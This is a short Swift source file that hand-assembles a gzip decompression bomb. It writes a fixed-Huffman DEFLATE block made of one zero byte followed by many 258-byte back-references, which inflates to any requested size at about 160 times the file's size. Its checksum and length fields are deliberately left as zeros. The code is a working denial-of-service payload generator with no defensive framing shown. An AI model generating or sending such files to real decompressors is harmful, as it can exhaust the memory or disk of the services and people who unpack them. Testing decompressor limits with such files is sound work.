/// A small gzip file that holds a great many zeros.
enum GzipBomb {
    /// About 1/160 of `size`: one block in the fixed code of RFC 1951, in which 13 bits stand for 258 bytes.
    static func bytes(inflatingTo size: Int) -> [UInt8] {
        var file: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 0xFF]
        var bits = BitWriter()
        bits.append([1, 1, 0])  // the last block, with the fixed code
        bits.append([0, 0, 1, 1, 0, 0, 0, 0])  // the literal 0
        for _ in 0..<(size / 258) {
            bits.append([1, 1, 0, 0, 0, 1, 0, 1])  // 258 bytes
            bits.append([0, 0, 0, 0, 0])  // from 1 byte before
        }
        bits.append([0, 0, 0, 0, 0, 0, 0])  // the end of the block
        file += bits.bytes
        // Check sum and size are for who reads to the end.
        return file + Array(repeating: 0, count: 8)
    }

    private struct BitWriter {
        private(set) var bytes: [UInt8] = []
        private var count = 0

        mutating func append(_ bits: [UInt8]) {
            for bit in bits {
                if count % 8 == 0 { bytes.append(0) }
                bytes[bytes.count - 1] |= bit << UInt8(count % 8)
                count += 1
            }
        }
    }
}
